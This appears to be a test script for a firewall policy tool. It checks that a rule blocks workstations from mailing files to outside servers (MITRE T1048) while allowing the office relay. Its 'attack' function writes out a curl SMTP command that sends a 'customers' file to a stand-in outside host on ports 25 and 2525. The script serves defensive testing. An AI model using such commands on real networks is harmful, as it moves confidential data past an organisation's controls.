# SPDX-License-Identifier: Apache-2.0
# Files out by mail, from a workstation straight to a server outside, on a port of its own (curl). The twin is the same mail by the office's relay.
technique=T1048 what="files out by mail" rule=mail-by-the-relay
policy() { cat <<END
weir: 1
$(zones)
rules:
  - name: mail-by-the-relay
    technique: [T1048]
    match: { from: inside, to: outside, app.protocol: [smtp, ftp, ssh, tftp] }
    unless: [ { from: 10.77.0.53, app.protocol: smtp } ]
    action: reject
END
}
servers() {
  cat >"$in/srv/smtp" <<'END'
printf '220 world.example ESMTP\r\n'
while read -r line; do
  case $line in
    EHLO*|HELO*) printf '250 world.example\r\n' ;;
    DATA*) printf '354 go on\r\n'; while read -r text; do [ "$text" = "$(printf '.\r')" ] && break; echo "$text" >>/srv/mail; done; printf '250 taken\r\n' ;;
    QUIT*) printf '221 bye\r\n'; exit 0 ;;
    *) printf '250 ok\r\n' ;;
  esac
done
END
  printf 'Subject: list\r\n\r\ncustomers\r\n' >"$in/srv/letter"
  : >"$in/srv/mail"
  for port in 25 2525; do serve world socat TCP-LISTEN:$port,fork,reuseaddr EXEC:'sh /srv/smtp'; done
}
post() { # HOST PORT
  : >"$in/srv/mail"
  at "$1" curl -s --max-time 6 "smtp://10.77.0.200:$2" --mail-from a@office.example --mail-rcpt b@world.example -T /srv/letter || true
  grep -q customers "$in/srv/mail"
}
attack() { post mallory 25 || post mallory 2525; }
twin() { post office 25; }
